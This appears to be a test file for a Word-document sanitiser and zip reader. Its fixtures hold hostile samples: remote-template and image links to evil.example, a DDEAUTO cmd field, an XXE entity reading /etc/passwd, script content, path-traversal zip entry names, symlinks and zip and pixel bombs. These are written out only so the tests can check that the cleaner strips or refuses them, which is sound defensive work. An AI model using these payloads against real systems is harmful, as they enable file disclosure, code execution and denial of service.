import { expect, test } from 'vitest'
import {
  docxOf,
  embeddedPicture,
  linkedPicture,
  namespaces,
  paragraph,
  relationshipsXml,
  renamedInZip,
  zipOf,
} from '../testing/docx-of.ts'
import { pixelBomb, quarteredPng } from '../testing/pictures.ts'
import { cleanDocx } from './clean-docx.ts'
import { readZip, refuseZipBomb } from './zip.ts'

const partsOf = async (docx: Buffer) => readZip(await cleanDocx(docx))
const textOf = (parts: ReadonlyMap<string, Buffer>) => [...parts.values()].map(String).join('\n')

test('DOC-15 cleaning removes every relationship that leads outside and keeps an embedded picture', async () => {
  const picture = await quarteredPng()
  const parts = await partsOf(
    await docxOf({
      body: embeddedPicture('rId1') + linkedPicture('rId2') + linkedPicture('rId3') + paragraph('Text'),
      relationships: [
        ['rId1', 'image', 'media/picture.png'],
        ['rId2', 'image', 'http://evil.example/a.png', 'External'],
        ['rId3', 'image', 'file:///etc/passwd', 'External'],
        ['rId4', 'attachedTemplate', 'http://evil.example/t.dotm', 'External'],
        ['rId5', 'hyperlink', 'http://evil.example/click', 'External'],
        ['rId6', 'oleObject', 'embeddings/tool.bin'],
        ['rId7', 'aFChunk', 'chunk.html'],
        ['rId8', 'image', 'http://evil.example/no-mode.png'],
        ['rId9', 'image', '\\\\\\\\evil.example\\\\share.png'],
      ],
      parts: {
        'word/media/picture.png': picture,
        'word/embeddings/tool.bin': 'MZ program',
        'word/chunk.html': '<script>alert(1)</script>',
        'docProps/core.xml': '<cp>Zoe the Author</cp>',
      },
    }),
  )

  expect([...parts.keys()].sort()).toEqual([
    '[Content_Types].xml',
    '_rels/.rels',
    'word/_rels/document.xml.rels',
    'word/document.xml',
    'word/media/picture.png',
  ])
  expect(parts.get('word/media/picture.png')?.equals(picture)).toBe(true)
  const text = textOf(parts)
  expect(text).toContain('Text')
  for (const gone of ['evil.example', 'passwd', 'External', 'Zoe the Author', 'r:link'])
    expect(text, gone).not.toContain(gone)
})

test('DOC-15 cleaning removes outside relationships of headers, in any encoding and spelling', async () => {
  const header = `<w:hdr ${namespaces}>${linkedPicture('x1')}</w:hdr>`
  const odd = `<?xml version='1.0'?><p:Relationships xmlns:p='http://schemas.openxmlformats.org/package/2006/relationships'><p:Relationship TargetMode = 'External' Target='http&#58;//evil.example/x.png' Id='x1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image'></p:Relationship></p:Relationships>`

  const parts = await partsOf(
    await docxOf({
      relationships: [['rId1', 'header', 'header1.xml']],
      parts: { 'word/header1.xml': header, 'word/_rels/header1.xml.rels': Buffer.from(`\ufeff${odd}`, 'utf16le') },
    }),
  )

  expect([...parts.keys()]).toContain('word/header1.xml')
  expect([...parts.keys()]).not.toContain('word/_rels/header1.xml.rels')
  expect(textOf(parts)).not.toContain('evil.example')
})

test('DOC-15 fields that fetch are emptied, page fields stay', async () => {
  const field = (code: string) => `<w:p><w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r></w:p>`
  const body = [
    field(' INCLUDEPICTURE "http://evil.example/p.png" \\d '),
    field('INCLUDE'),
    field('<![CDATA[DDEAUTO cmd "http://evil.example"]]>'),
    field(' PAGE \\* MERGEFORMAT '),
    '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;file:///etc/passwd&quot;"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>',
    `<w:p><w:r><w:pict><v:shape><v:imagedata src='http://evil.example/v.png' o:href="http://evil.example"/></v:shape></w:pict></w:r></w:p>`,
    paragraph('I wrote src="mine" myself'),
  ].join('')

  const text = String((await partsOf(await docxOf({ body }))).get('word/document.xml'))

  expect(text).toContain(' PAGE \\* MERGEFORMAT ')
  expect(text).toContain('shown')
  expect(text).toContain('I wrote src="mine" myself')
  for (const gone of ['evil.example', 'passwd', 'INCLUDE', 'DDEAUTO']) expect(text, gone).not.toContain(gone)
})

const link = (attributes: string) => `<w:hyperlink ${attributes}><w:r><w:t>Our school</w:t></w:r></w:hyperlink>`

test('DOC-27 a link becomes its text, so that nothing refers to a relationship that is gone', async () => {
  const body = `<w:p>${['r:id="rId1"', 'r:id="rId2"', 'r:id="rId9"', 'w:anchor="top"'].map(link).join('')}</w:p>
<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id="rId1"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>`
  const relationships = [
    ['rId1', 'hyperlink', 'https://school.example', 'External'],
    ['rId2', 'hyperlink', 'mailto:office@school.example', 'External'],
  ] as const

  const text = String((await partsOf(await docxOf({ body, relationships }))).get('word/document.xml'))

  expect(text.match(/<w:r><w:t>Our school<\/w:t><\/w:r>/g)).toHaveLength(4)
  for (const gone of ['hyperlink', 'hlinkClick', 'r:id', 'school.example']) expect(text, gone).not.toContain(gone)
})

test('DOC-25 a content control becomes what it shows, unless something else in it has text', async () => {
  const control = (kind: string) =>
    `<w:sdt><w:sdtPr>${kind}</w:sdtPr><w:sdtContent>${paragraph('Typed')}</w:sdtContent></w:sdt>`
  const body = control('<w:text/>') + control('<w:text>Mine</w:text>')

  const text = String((await partsOf(await docxOf({ body }))).get('word/document.xml'))

  expect(text.match(/Typed/g)).toHaveLength(2)
  expect(text.match(/<w:sdt>/g)).toHaveLength(1)
  expect(text).toContain('Mine')
})

test('DOC-28 the code of a field is judged as a whole, however it is split', async () => {
  const field = (...pieces: readonly string[]) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  const body = [field(' MACRO', 'BUTTON', ' NoMacro My essay'), field('PA', 'GE'), field('INCLUDE', 'TEXT "x"')].join(
    '',
  )

  const text = String((await partsOf(await docxOf({ body }))).get('word/document.xml'))

  expect([...text.matchAll(/<w:instrText>([^<]+)</g)].map(([, code]) => code)).toEqual(['MACROBUTTON', 'PAGE'])
})

test('DOC-17 a document with a document type declaration is unreadable', async () => {
  const prolog = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
  const hidden = Buffer.from(`\ufeff${prolog}<w:hdr ${namespaces}/>`, 'utf16le')

  await expect(cleanDocx(await docxOf({ prolog, body: paragraph('&secret;') }))).rejects.toMatchObject({
    failure: 'unreadable',
  })
  await expect(
    cleanDocx(
      await docxOf({ relationships: [['rId1', 'header', 'header1.xml']], parts: { 'word/header1.xml': hidden } }),
    ),
  ).rejects.toMatchObject({ failure: 'unreadable' })
})

test('DOC-17 macros are refused: a docm under another name, and a docx with a project inside', async () => {
  const mainType = 'application/vnd.ms-word.document.macroEnabled.main+xml'
  const parts = { 'word/vbaProject.bin': 'macro' }

  await expect(cleanDocx(await docxOf({ mainType, parts }))).rejects.toMatchObject({ failure: 'macros' })
  await expect(cleanDocx(await docxOf({ parts }))).rejects.toMatchObject({ failure: 'macros' })
  await expect(cleanDocx(await docxOf({ mainType }))).rejects.toMatchObject({ failure: 'macros' })
})

test('DOC-17 a zip that is no Word document is refused as not what its name says', async () => {
  const spreadsheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'

  await expect(cleanDocx(await zipOf({ 'readme.txt': 'hello' }))).rejects.toMatchObject({ failure: 'notItsName' })
  await expect(cleanDocx(await docxOf({ mainType: spreadsheet }))).rejects.toMatchObject({ failure: 'notItsName' })
  await expect(
    cleanDocx(await zipOf({ '[Content_Types].xml': '<Types/>', '_rels/.rels': relationshipsXml([]) })),
  ).rejects.toMatchObject({ failure: 'notItsName' })
})

test('DOC-17 a zip bomb is refused within 5 s of processor time and 256 MB: one large part, many parts, many names', async () => {
  const megabytes = (count: number) => Buffer.alloc(count * 1_000_000, 'a')
  const overlapping = Object.fromEntries(Array.from({ length: 41 }, (_, index) => [`part-${index}`, megabytes(1)]))
  const names = Object.fromEntries(Array.from({ length: 2_001 }, (_, index) => [`n${index}`, '']))
  const bombs = [
    await docxOf({ parts: { 'word/media/a.xml': megabytes(6) } }),
    await zipOf(overlapping),
    await zipOf(names),
  ]
  const [before, started] = [process.memoryUsage().rss, process.cpuUsage()]

  for (const bomb of bombs) {
    expect(bomb.length).toBeLessThan(1_000_000)
    // Its directory alone is enough to refuse it.
    await expect(refuseZipBomb(bomb)).rejects.toMatchObject({ failure: 'tooMuchInside' })
    await expect(cleanDocx(bomb)).rejects.toMatchObject({ failure: 'tooMuchInside' })
  }

  expect(process.cpuUsage(started).user).toBeLessThan(5_000_000)
  expect(process.memoryUsage().rss - before).toBeLessThan(256_000_000)
})

test('DOC-17 a zip whose directory declares a wrong size is refused', async () => {
  const zip = await zipOf({ 'word/document.xml': Buffer.alloc(2_000_000, 'a') })
  const size = Buffer.alloc(4)
  size.writeUInt32LE(2_000_000)
  for (let at = zip.indexOf(size); at >= 0; at = zip.indexOf(size, at + 4)) zip.writeUInt32LE(1_000, at)

  await expect(readZip(zip)).rejects.toMatchObject({ failure: expect.stringMatching(/unreadable|tooMuchInside/) })
})

test.each([
  ['leads out', 'AAAevil.xml', '../evil.xml'],
  ['is absolute', 'Aetc/passwd', '/etc/passwd'],
  ['names a drive', 'Aword/x.xml', 'C:\\\\word\\\\x.xm'.slice(0, 11)],
  ['holds a NUL', 'wordAx.xml1', 'word\0x.xml1'],
])('DOC-17 a zip with a name that %s is unreadable', async (_how, from, to) => {
  const zip = await zipOf({ [from]: 'x', 'other.xml': 'y' })

  await expect(readZip(renamedInZip(zip, from, to))).rejects.toMatchObject({ failure: 'unreadable' })
})

test('DOC-17 a symbolic link, a repeated name and an encrypted part are refused', async () => {
  await expect(readZip(await zipOf({ 'link.xml': '/etc/passwd' }, 0o120777))).rejects.toMatchObject({
    failure: 'unreadable',
  })
  const doubled = renamedInZip(await zipOf({ 'one.xml': '1', 'two.xml': '2' }), 'two.xml', 'one.xml')
  await expect(readZip(doubled)).rejects.toMatchObject({ failure: 'unreadable' })
  const locked = await zipOf({ 'one.xml': '1' })
  locked.writeUInt16LE(locked.readUInt16LE(6) | 1, 6)
  const directory = locked.indexOf(Buffer.from('PK\x01\x02'))
  locked.writeUInt16LE(locked.readUInt16LE(directory + 8) | 1, directory + 8)
  await expect(readZip(locked)).rejects.toMatchObject({ failure: 'encrypted' })
})

test.each([
  ['declares a comment that is not there', (zip: Buffer) => Buffer.concat([zip.subarray(0, -2), Buffer.from([7, 0])])],
  ['has bytes behind its end', (zip: Buffer) => Buffer.concat([zip, Buffer.from('\r\n')])],
])('DOC-81 a zip that %s is read', async (_how, change) => {
  const parts = await readZip(change(await zipOf({ 'one.xml': '1' })))

  expect(String(parts.get('one.xml'))).toBe('1')
})

test('DOC-81 a zip without its end is unreadable', async () => {
  const zip = await zipOf({ 'one.xml': '1' })

  await expect(readZip(zip.subarray(0, zip.length - 1))).rejects.toMatchObject({ failure: 'unreadable' })
  await expect(readZip(Buffer.from('PK'))).rejects.toMatchObject({ failure: 'unreadable' })
})

test('DOC-17 a picture of too many pixels inside a document is refused', async () => {
  const docx = await docxOf({
    body: embeddedPicture('rId1'),
    relationships: [['rId1', 'image', 'media/bomb.png']],
    parts: { 'word/media/bomb.png': pixelBomb() },
  })

  await expect(cleanDocx(docx)).rejects.toMatchObject({ failure: 'tooManyPixels' })
})
